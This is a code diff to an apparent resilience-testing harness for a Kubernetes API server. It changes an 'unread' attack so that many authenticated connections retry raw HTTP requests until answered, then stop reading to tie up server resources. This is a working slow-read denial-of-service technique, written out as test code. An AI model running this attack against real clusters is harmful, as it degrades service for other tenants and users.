@@ -34,6 +34,8 @@ CHURN_PER_S, CHURNED = 15.0, 10  # labels of so many jobs of the tenant's
 # 14 KB of each job; a list of so many of them fits no socket.
 FILLER, MANY_JOBS = {f"filler-{'x' * 50}-{number}": "x" * 63 for number in range(110)}, 400
 UNREAD_S = 12.0  # the server leaves who reads nothing for 10 s
+UNREAD_RETRY_S = 1.0  # after one was refused
+ANSWERED_SHARE = 0.9  # of the connections: what kube-apiserver takes to open them is no part of the attack
 RETRY_S = 10.0  # after a watch was refused
 PUSHES_PER_S = 20.0  # of each pod: as many as it may
 
@@ -231,15 +233,25 @@ def unread(connections: int) -> Attack:
         await asyncio.gather(*map(make, clients))
         path = f"{API}/namespaces/{target.access.namespace}/trainjobs"
 
+        answered = set[int]()
+
         async def one(place: int) -> None:
             reader, writer = await target.connect(port=target.access.kube_port, receive_bytes=4096)
             bearer = target.bearer(target.access.accounts[place % len(target.access.accounts)])
             try:
-                writer.write(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n{YAML}{bearer}\r\n".encode())
-                head = await reader.readuntil(b"\r\n\r\n")
-                target.answers[head.split()[1].decode()] += 1
+                while True:
+                    writer.write(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n{YAML}{bearer}\r\n".encode())
+                    head = (await reader.readuntil(b"\r\n\r\n")).lower()
+                    status = head.split()[1].decode()
+                    target.answers[status] += 1
+                    answered.add(place)
+                    if len(answered) >= connections * ANSWERED_SHARE:
+                        under_way.set()
+                    if status == "200":
+                        break
+                    await reader.readexactly(content_length(head))
+                    await asyncio.sleep(UNREAD_RETRY_S)
                 writer.transport.pause_reading()  # type: ignore[attr-defined]  # of every socket's transport
-                under_way.set()
                 await asyncio.sleep(UNREAD_S)
             finally:
                 writer.transport.abort()
